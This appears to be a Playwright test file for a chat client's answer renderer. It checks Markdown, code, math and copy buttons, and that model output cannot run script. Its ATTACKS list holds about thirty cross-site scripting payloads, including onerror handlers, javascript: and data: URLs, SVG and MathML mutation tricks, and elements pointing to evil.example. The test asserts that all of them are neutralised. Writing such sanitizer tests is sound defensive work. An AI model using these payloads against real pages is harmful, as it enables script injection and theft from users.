"""Markdown, code and formulas of an answer are formatted. Nothing that a model writes can act on the page."""

from __future__ import annotations

import pytest

from tests.server.conftest import CLIENTS_MISSING

pytest.importorskip("playwright", reason=CLIENTS_MISSING)
from playwright.sync_api import Page, expect

from tests.server.page.actions import answers, ask
from tests.server.page.conftest import OpenPage
from tests.server.page.fake_server import Answer, FakeServer

FORMATTED = r"""# Title

Some **bold** and `code`, H<sub>2</sub>O, a [link](https://example.org/).

| a | b |
|---|--:|
| 1 | 2 |

- [x] done

```python
def f(x):
    return x  # <b>
```

Inline $a^2$ and \(b\), but it costs $5 or $10.

$$\frac{1}{\sqrt{2}}$$

Wrong: $\frac{$
"""


def test_markdown_code_and_math(page: Page, server: FakeServer):
    # In small pieces, so that every half-written construct is drawn too.
    server.answers.append(Answer([FORMATTED[at : at + 3] for at in range(0, len(FORMATTED), 3)]))
    ask(page, "Format")
    answer = answers(page)
    expect(answer.get_by_role("heading", name="Title", level=2)).to_be_visible()
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.locator("sub")).to_have_text("2")
    expect(answer.locator("td").last).to_have_text("2")
    expect(answer).to_contain_text("☑ done")
    expect(answer.locator("pre .hljs-keyword").first).to_have_text("def")
    expect(answer.locator("pre")).to_contain_text("# <b>")
    expect(answer.locator("math")).to_have_count(3)
    expect(answer.locator("math[display=block] mfrac")).to_be_visible()
    expect(answer).to_contain_text("costs $5 or $10.")
    expect(answer).to_contain_text(r"Wrong: $\frac{$")
    link = answer.get_by_role("link", name="link")
    assert link.get_attribute("target") == "_blank"
    assert "noopener" in (link.get_attribute("rel") or "")


def test_letters_of_formulas(page: Page, server: FakeServer):
    letters = {
        r"\mathbb{RNx1}": "ℝℕ𝕩𝟙",
        r"\mathcal{LA}": "ℒ𝒜",
        r"\mathfrak{gC}": "𝔤ℭ",
        r"\mathbf{a2}": "𝐚𝟐",
        r"\mathtt{ab}": "𝚊𝚋",
        r"\mathsf{Q}": "𝖰",
        r"\mathrm{d}": "d",
        r"\sin x": "sin⁡x",
    }
    server.answers.append(Answer([" ".join(f"${tex}$" for tex in letters)]))
    ask(page, "Letters")
    expect(answers(page).locator("math")).to_have_text(list(letters.values()))


def test_layout_of_formulas(page: Page, server: FakeServer):
    server.answers.append(
        Answer(
            [
                r"$$\begin{aligned} f(x) &= (x+1)^2 \\ g &= 1 \end{aligned}$$",
                "\n\n",
                r"$\overline{abc} + \underline{d}$",
            ]
        )
    )
    ask(page, "Layout")
    ends = page.evaluate("""() => [...document.querySelectorAll("mtr")].map((row) => {
        const [left, right] = [...row.children].map((cell) => cell.querySelectorAll("mi, mo, mn"));
        return [[...left].at(-1).getBoundingClientRect().right, right[0].getBoundingClientRect().left];
    })""")
    assert abs(ends[0][0] - ends[1][0]) < 1, "the left column ends at one line"
    assert abs(ends[0][1] - ends[1][1]) < 1, "the right column begins at one line"
    expect(page.locator(".math-overline")).to_have_text("abc")
    expect(page.locator(".math-underline")).to_have_text("d")


def test_copy_buttons(open_page: OpenPage, server: FakeServer):
    page = open_page(permissions=["clipboard-read", "clipboard-write"])
    server.answers.append(Answer(["Text\n\n```sh\necho  1\n```\n"]))
    ask(page, "Format")
    page.get_by_role("button", name="Copy this sh code").click()
    expect(page.get_by_role("button", name="Copy this sh code")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "echo  1"
    answers(page).get_by_role("button", name="Copy", exact=True).click()
    expect(answers(page).get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "Text\n\n```sh\necho  1\n```\n"


ATTACKS = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "text <img src=x onerror=window.hacked=1> text",
    "![x](https://evil.example/pixel.png)",
    '![x](javascript:window.hacked=1 "onerror=window.hacked=1")',
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt&colon;window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:x)",
    "<javascript:window.hacked=1>",
    "<a href='javascript:window.hacked=1'>click</a>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg onload=window.hacked=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1></style></mglyph></table></mtext></math>",
    "<iframe src='https://evil.example/'></iframe>",
    "<style>* { display: none }</style>",
    "<b style='position:fixed' onclick=window.hacked=1 id=app>click</b>",
    "<form action='https://evil.example'><input name=x><button>send</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<sub onmouseover=window.hacked=1>x</sub>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "```html' onclick='window.hacked=1\ncode\n```",
    '```"><img src=x onerror=window.hacked=1>\ncode\n```',
    r"$\href{javascript:window.hacked=1}{click}$",
    r"$\htmlStyle{position:fixed}{x} \includegraphics{https://evil.example/x.png}$",
    r"$\text{<img src=x onerror=window.hacked=1>}$",
    r"$\def\x{\x\x}\x$",
    "| a |\n|---|\n| <img src=x onerror=window.hacked=1> |",
    "# <img src=x onerror=window.hacked=1>",
    "<!--><img src=x onerror=window.hacked=1>-->",
    "[x]: javascript:window.hacked=1\n\n[x]",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
]


def test_output_of_a_model_cannot_act(page: Page, server: FakeServer):
    """The fixture also fails on any violation of the policy and on requests to other addresses."""
    whole = "\n\n".join(ATTACKS)
    server.answers.extend(
        [Answer([*ATTACKS]), Answer(["\n\n", *(f"{attack}\n\n" for attack in ATTACKS)]), Answer([whole])]
    )
    for _ in range(3):
        ask(page, whole)
    page.wait_for_timeout(100)
    found = page.evaluate("""() => {
        const markdown = [...document.querySelectorAll(".markdown")];
        const nodes = markdown.flatMap((each) => [...each.querySelectorAll("*")]);
        const ours = (node) => node.matches(".code-block, .code-head, .code-head *, pre");
        return {
            hacked: window.hacked ?? 0,
            tags: [...new Set(nodes.filter((node) => !ours(node)).map((node) => node.localName))],
            attributes: [...new Set(nodes.filter((node) => !ours(node)).flatMap((node) => node.getAttributeNames()))],
            links: nodes.filter((node) => node.hasAttribute("href")).map((node) => node.getAttribute("href")),
        };
    }""")
    assert found["hacked"] == 0
    forbidden = {"script", "img", "svg", "iframe", "style", "form", "input", "link", "base", "button", "details"}
    assert not forbidden & set(found["tags"])
    assert not [name for name in found["attributes"] if name.startswith("on") or name in ("style", "id", "src")]
    assert {link for link in found["links"] if not link.startswith("https://")} == set()
    page.get_by_text("click").first.click()
    assert page.evaluate("window.hacked") is None


STRANGE = [">" * 5000, "[" * 5000, "*a " * 3000, "$" * 5000, "- " * 2000, "`" * 5000, "\\(" * 3000, "|a" * 2000]


def test_strange_text_does_not_stop_the_page(page: Page, server: FakeServer):
    server.answers.extend(Answer([text]) for text in STRANGE)
    for at in range(len(STRANGE)):
        ask(page, f"Strange text {at}")
    assert page.evaluate("1 + 1") == 2
